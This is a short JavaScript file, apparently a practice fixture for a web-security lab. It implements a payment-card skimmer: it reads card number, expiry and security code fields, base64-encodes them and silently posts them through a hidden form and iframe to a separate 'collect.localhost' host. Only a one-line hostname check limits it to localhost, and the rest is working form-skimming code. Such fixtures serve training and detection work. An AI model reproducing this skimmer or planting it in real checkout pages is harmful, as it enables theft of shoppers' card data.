/* Inert practice fixture: acts on *.localhost only, and what it sends is counted and dropped. */
(() => {
  if (!location.hostname.endsWith('.localhost')) return;
  const home = `${location.protocol}//collect.localhost:${location.port}`;
  const card = () => {
    const part = (id) => document.getElementById(id)?.value ?? '';
    return [part('card-number'), part('card-expiry'), part('security_code')].join('|');
  };
  const frame = document.createElement('iframe');
  frame.name = 'sheet-target';
  frame.hidden = true;
  document.body.append(frame);
  document.getElementById('security_code')?.addEventListener('change', () => {
    if (card().length < 15) return;
    const form = document.createElement('form');
    form.method = 'post';
    form.action = `${home}/lib/t`;
    form.target = frame.name;
    form.hidden = true;
    const field = document.createElement('input');
    field.name = 'd';
    field.value = btoa(card());
    form.append(field);
    document.body.append(form);
    form.submit();
    form.remove();
  });
})();
